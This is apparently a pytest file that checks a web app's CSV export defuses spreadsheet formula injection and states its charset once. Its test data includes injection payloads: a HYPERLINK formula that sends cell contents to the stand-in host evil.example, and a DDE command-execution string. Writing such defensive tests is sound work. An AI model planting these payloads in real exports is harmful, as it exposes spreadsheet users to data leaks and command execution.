"""CSV exports never carry a live spreadsheet formula, and say their charset once
(issue 12, finding 9)."""
from __future__ import annotations

import csv
import io

from app.core.csv_export import FORMULA_STARTS, csv_cell
from tests.support import Api
from tests.web_support import login

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _export(app, client, **record) -> tuple:
    with app.app_context():
        recorder = Api(client).as_("recorder")
        for title in FORMULAS:
            recorder.register(title=title, **record)
    web = app.test_client()
    login(web, "reviewer")
    response = web.get("/cases/export.csv")
    assert response.status_code == 200
    return response, list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_formula_title_is_exported_as_text(app, client):
    response, rows = _export(app, client)
    titles = {row[1] for row in rows[1:]}
    assert "'" + FORMULAS[0] in titles and FORMULAS[0] not in titles


def test_no_exported_cell_starts_a_formula_and_the_charset_is_said_once(app, client):
    response, rows = _export(app, client, document_number="=1+2")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert len(rows) == len(FORMULAS) + 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # one-line fields are stored without surrounding blanks: "\t=1+1" is the formula "=1+1"
    assert {"'" + f.strip() for f in FORMULAS} <= set(cells) and "'=1+2" in cells


def test_every_formula_start_is_neutralised_and_plain_text_is_kept():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("沪财监〔2026〕17号") == "沪财监〔2026〕17号"
    assert csv_cell(None) == "" and csv_cell(3) == "3"
